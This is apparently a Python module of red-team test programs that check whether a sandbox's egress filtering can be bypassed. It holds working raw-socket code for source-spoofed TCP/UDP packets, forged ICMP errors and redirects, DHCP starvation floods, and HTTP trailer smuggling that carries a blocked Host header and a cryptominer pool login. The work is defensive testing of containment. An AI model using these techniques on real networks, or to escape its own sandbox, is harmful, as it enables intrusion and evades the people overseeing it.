"""Programs of red team 11's module (tests/security/test_redteam_round11.py): raw sockets, no tool the sandbox
would not have (root in a network namespace may open ``SOCK_RAW``).

- `forge_main` (sandbox, or the gateway for the control): IPv4 or IPv6 packets written whole (``IP_HDRINCL``) with
  a source address that is not the sender's: a TCP SYN carrying data, or a UDP datagram, each holding `MARK`.
- `icmp_main` (sandbox): ICMP errors written by hand: a port unreachable, a time exceeded or a fragmentation
  needed (IPv4) / packet too big (IPv6) quoting a datagram chosen by the agent and followed by `MARK`, and an ICMP
  redirect; sent to the gateway itself or through it. `icmp_udp_main`: the same errors quoting a UDP datagram.
- `dhcp_main` (sandbox): DHCP DISCOVERs from 0.0.0.0:68 whose options (host name, vendor class, client id) carry
  `MARK`, to the broadcast address or another destination, from many client hardware addresses (starvation).
- `http_trailers_main` (sandbox, or the internet side for the control): a chunked POST whose trailer section
  carries a ``Host`` and a pool's JSON-RPC ``login``; prints the status line it got back.
- `listen_main` / `reach_main` / `ask_main`: a receiver in a second sandbox on a link of its own, the first
  sandbox's TCP and UDP to it, and a DNS question to a nameserver address of the caller's choosing.
- `quic_main` (either side): a QUIC v1 Initial (long header) with `MARK` to UDP ADDRESS:PORT; prints what came back.
"""

from __future__ import annotations

import json
import os
import pathlib
import select
import socket
import struct
import sys

from egress.detect import dns
from tests.security.redteam_icmp_kit import checksum

MARK = b"5ec7e7-rt11"
"""The chosen bytes every payload carries: found anywhere in the internet side's capture file, they crossed."""
WAIT = 2.0


def _v6(address: str) -> bool:
    return ":" in address


def _pseudo(src: str, dst: str, proto: int, length: int) -> bytes:
    if _v6(src):
        raw = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
        return raw + struct.pack("!IxxxB", length, proto)
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!xBH", proto, length)


def transport(src: str, dst: str, proto: int, sport: int, dport: int, data: bytes) -> bytes:
    """A TCP SYN (with ``data``) or a UDP datagram, checksummed for ``src`` → ``dst``."""
    if proto == socket.IPPROTO_TCP:
        head = struct.pack("!HHIIBBHHH", sport, dport, 0x11111111, 0, 5 << 4, 0x02, 65535, 0, 0)
    else:
        head = struct.pack("!HHHH", sport, dport, 8 + len(data), 0)
    segment = head + data
    sum_at = 16 if proto == socket.IPPROTO_TCP else 6
    value = checksum(_pseudo(src, dst, proto, len(segment)) + segment)
    return segment[:sum_at] + struct.pack("!H", value) + segment[sum_at + 2 :]


def ip_packet(src: str, dst: str, proto: int, body: bytes, ttl: int = 64) -> bytes:
    """A whole IP packet (the kernel fills an IPv4 header's checksum and id when they are 0)."""
    if _v6(src):
        head = struct.pack("!IHBB", 6 << 28, len(body), proto, ttl)
        return head + socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + body
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, ttl, proto, 0)
    return head + socket.inet_aton(src) + socket.inet_aton(dst) + body


def send_raw(packet: bytes, dst: str) -> None:
    family = socket.AF_INET6 if _v6(dst) else socket.AF_INET
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:  # IPPROTO_RAW: header included
        sock.sendto(packet, (dst, 0))


def forge_main() -> None:
    """``forge_main tcp|udp SOURCE DESTINATION PORT``: three packets from SOURCE, each carrying MARK."""
    kind, src, dst, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    proto = socket.IPPROTO_TCP if kind == "tcp" else socket.IPPROTO_UDP
    data = b"GET /" + MARK + b" HTTP/1.0\r\nHost: blocked.lab\r\n\r\n"
    for index in range(3):
        body = transport(src, dst, proto, 40000 + index, port, data)
        try:
            send_raw(ip_packet(src, dst, proto, body), dst)
        except OSError as exc:
            print(f"error {exc}", flush=True)
            return
    print("sent 3", flush=True)


def _echo_reply(src: str, dst: str) -> bytes:
    """An ICMP (v4) or ICMPv6 echo reply ``src`` → ``dst``: the kind of quoted packet whose error the kernel takes
    as about its own (``icmp_err`` / ``icmpv6_err`` update the path MTU with no socket to ask)."""
    if _v6(src):
        body = struct.pack("!BBHHH", 129, 0, 0, 7, 1) + MARK
        value = checksum(_pseudo(src, dst, 58, len(body)) + body)
        body = body[:2] + struct.pack("!H", value) + body[4:]
        return ip_packet(src, dst, 58, body)
    body = struct.pack("!BBHHH", 0, 0, 0, 7, 1) + MARK
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    return ip_packet(src, dst, 1, body)


def icmp_error(kind: str, quoted: bytes, trailer: bytes, v6: bool, gateway: str = "") -> bytes:
    """The ICMP message (type, code, the 4 bytes after the checksum, the quoted packet, ``trailer``)."""
    if v6:
        types = {"unreach": (1, 4, 0), "exceeded": (3, 0, 0), "toobig": (2, 0, 1280)}
        kind_type, code, rest = types[kind]
        return struct.pack("!BBHI", kind_type, code, 0, rest) + quoted + trailer  # the kernel sums ICMPv6
    types4 = {"unreach": (3, 3, 0), "exceeded": (11, 0, 0), "fragneeded": (3, 4, 552), "redirect": (5, 1, 0)}
    kind_type, code, rest = types4[kind]
    word = socket.inet_aton(gateway) if kind == "redirect" else struct.pack("!HH", 0, rest)
    message = struct.pack("!BBH", kind_type, code, 0) + word + quoted + trailer
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def icmp_main() -> None:
    """``icmp_main KIND TO QUOTED_SRC QUOTED_DST [NEWGW]``: three ICMP errors to TO quoting an echo reply
    QUOTED_SRC → QUOTED_DST, followed by MARK (a redirect names NEWGW as the better first hop)."""
    kind, to, qsrc, qdst = sys.argv[1:5]
    newgw = sys.argv[5] if len(sys.argv) > 5 else ""
    v6 = _v6(to)
    message = icmp_error(kind, _echo_reply(qsrc, qdst), MARK * 4, v6, newgw)
    family, proto = (socket.AF_INET6, socket.IPPROTO_ICMPV6) if v6 else (socket.AF_INET, socket.IPPROTO_ICMP)
    with socket.socket(family, socket.SOCK_RAW, proto) as sock:
        for _ in range(3):
            sock.sendto(message, (to, 0))
    print("sent 3", flush=True)


def icmp_udp_main() -> None:
    """``icmp_udp_main KIND TO QUOTED_SRC QUOTED_SPORT QUOTED_DST QUOTED_DPORT``: three ICMP errors to TO quoting a
    UDP datagram QUOTED_SRC:QUOTED_SPORT → QUOTED_DST:QUOTED_DPORT (an answer of the gateway's resolver, say),
    followed by MARK."""
    kind, to, qsrc, qsport, qdst, qdport = sys.argv[1:7]
    body = transport(qsrc, qdst, socket.IPPROTO_UDP, int(qsport), int(qdport), MARK)
    message = icmp_error(kind, ip_packet(qsrc, qdst, socket.IPPROTO_UDP, body), MARK * 4, _v6(to))
    family, proto = (socket.AF_INET6, socket.IPPROTO_ICMPV6) if _v6(to) else (socket.AF_INET, socket.IPPROTO_ICMP)
    with socket.socket(family, socket.SOCK_RAW, proto) as sock:
        for _ in range(3):
            sock.sendto(message, (to, 0))
    print("sent 3", flush=True)


def _dhcp_discover(mac: bytes, xid: int) -> bytes:
    head = struct.pack("!BBBBIHH4s4s4s4s", 1, 1, 6, 0, xid, 0, 0x8000, b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4)
    head += mac + b"\0" * 10 + b"\0" * 192 + b"\x63\x82\x53\x63"
    options = bytes([53, 1, 1])  # DHCPDISCOVER
    options += bytes([12, len(MARK) + 4]) + MARK + b"-h12"  # host name
    options += bytes([60, len(MARK) + 4]) + MARK + b"-v60"  # vendor class
    options += bytes([61, len(MARK) + 5, 1]) + MARK + b"-c61"  # client id
    return head + options + b"\xff"


def dhcp_main() -> None:
    """``dhcp_main IFACE DSTMAC DESTINATION COUNT``: COUNT DISCOVERs from 0.0.0.0:68 to DESTINATION:67, each for a
    hardware address of its own, the options carrying MARK: Ethernet frames written whole (``AF_PACKET``), as DHCP
    clients do (the kernel would put the interface's address in place of 0.0.0.0 on an IP raw socket)."""
    iface, dstmac, dst, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    own = bytes.fromhex(pathlib.Path(f"/sys/class/net/{iface}/address").read_text().strip().replace(":", ""))
    ether = bytes.fromhex(dstmac.replace(":", "")) + own + b"\x08\x00"
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((iface, 0))
        for index in range(count):
            mac = b"\x02\x11" + struct.pack("!I", index)
            body = transport("0.0.0.0", dst, socket.IPPROTO_UDP, 68, 67, _dhcp_discover(mac, 0x5EC70000 + index))
            packet = ip_packet("0.0.0.0", dst, socket.IPPROTO_UDP, body)
            packet = packet[:10] + struct.pack("!H", checksum(packet[:20])) + packet[12:]
            sock.send(ether + packet)
    print(f"sent {count}", flush=True)


def _resolve(name: str, nameserver: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT)
        sock.sendto(dns.build_query(0x1111, name, dns.A), (nameserver, 53))
        message = dns.parse(sock.recv(65535))
    found = [a for r in message.answers if (a := dns.address_of(r))]
    return found[0] if found else ""


_LOGIN = {"login": "4" + "A" * 94, "pass": "x", "agent": "XMRig/6.21.0"}
TRAILERS = {
    "host": b"Host: blocked.lab\r\n",
    "pool": b"X-Rpc: "
    + json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": _LOGIN}, separators=(",", ":")).encode()
    + b"\r\n",
}


def http_trailers_main() -> None:
    """``http_trailers_main NAME|ADDRESS PORT host|pool [NAMESERVER]``: a chunked POST to the site whose trailer
    section carries a Host (blocked.lab) or a pool's login; prints ``status LINE`` or ``closed``."""
    target, port, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    address = _resolve(target, sys.argv[4]) if len(sys.argv) > 4 else target
    print(f"address {address}", flush=True)
    body = MARK + b"-body"
    request = (
        b"POST /upload HTTP/1.1\r\nHost: allowed.lab\r\nTransfer-Encoding: chunked\r\nTrailer: X-Rpc, Host\r\n"
        b"Connection: close\r\n\r\n"
        + b"%x\r\n" % len(body)
        + body
        + b"\r\n0\r\n"
        + TRAILERS[kind]
        + b"X-Mark: "
        + MARK
        + b"-trailer\r\n\r\n"
    )
    with socket.create_connection((address, port), timeout=WAIT * 2) as sock:
        sock.sendall(request)
        got = b""
        try:
            while chunk := sock.recv(4096):
                got += chunk
        except OSError:
            pass
    print(f"status {got.split(b'\r\n', 1)[0].decode(errors='replace')}" if got else "closed", flush=True)


def quic_main() -> None:
    """``quic_main ADDRESS PORT``: one QUIC v1 Initial-shaped datagram (RFC 9000 §17.2.2) with MARK in it."""
    address, port = sys.argv[1], int(sys.argv[2])
    dcid, scid = os.urandom(8), os.urandom(8)
    body = os.urandom(4) + MARK + os.urandom(1162 - len(MARK))
    packet = b"\xc3\x00\x00\x00\x01" + bytes([8]) + dcid + bytes([8]) + scid + b"\x00"
    packet += struct.pack("!H", 0x4000 | len(body)) + body
    with socket.socket(socket.AF_INET6 if _v6(address) else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT)
        sock.sendto(packet, (address, port))
        try:
            reply = sock.recv(2048)
        except OSError:
            print("silent", flush=True)
            return
    print(f"answered {len(reply)} version-negotiation {reply[1:5] == b'\0' * 4}", flush=True)


def listen_main() -> None:
    """``listen_main ADDRESS PORT``: a TCP and a UDP receiver on ADDRESS:PORT (sandbox B) that log what arrives
    (``heard tcp|udp N bytes from SRC, marker yes|no``): what another sandbox got through to it."""
    address, port = sys.argv[1], int(sys.argv[2])
    tcp = socket.create_server((address, port))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((address, port))
    print("listening", flush=True)
    while True:
        ready, _, _ = select.select([tcp, udp], [], [])
        for sock in ready:
            if sock is udp:
                data, peer = udp.recvfrom(65535)
                kind = "udp"
            else:
                conn, peer = tcp.accept()
                conn.settimeout(WAIT)
                try:
                    data = conn.recv(65535)
                except OSError:
                    data = b""
                conn.close()
                kind = "tcp"
            print(
                f"heard {kind} {len(data)} bytes from {peer[0]}, marker {'yes' if MARK in data else 'no'}", flush=True
            )


def reach_main() -> None:
    """``reach_main ADDRESS PORT``: MARK to ADDRESS:PORT over TCP (connect, send) and UDP; prints each outcome."""
    address, port = sys.argv[1], int(sys.argv[2])
    try:
        with socket.create_connection((address, port), timeout=WAIT) as sock:
            sock.sendall(MARK + b"-tcp")
            sock.settimeout(WAIT)
            try:
                print(f"tcp connected, read {len(sock.recv(4096))}", flush=True)
            except OSError as exc:
                print(f"tcp connected, then {exc.__class__.__name__}", flush=True)
    except OSError as exc:
        print(f"tcp {exc.__class__.__name__}", flush=True)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(MARK + b"-udp", (address, port))
    print("udp sent", flush=True)


def ask_main() -> None:
    """``ask_main NAMESERVER NAME [SPORT]``: one A query (from SPORT if given); prints ``rcode N answers A,B``."""
    nameserver, name = sys.argv[1], sys.argv[2]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT)
        if len(sys.argv) > 3:
            sock.bind(("0.0.0.0", int(sys.argv[3])))
        sock.sendto(dns.build_query(0x4444, name, dns.A), (nameserver, 53))
        try:
            message = dns.parse(sock.recv(65535))
        except OSError:
            print("silent", flush=True)
            return
    found = [a for r in message.answers if (a := dns.address_of(r))]
    print(f"rcode {message.rcode} answers {','.join(found)}", flush=True)
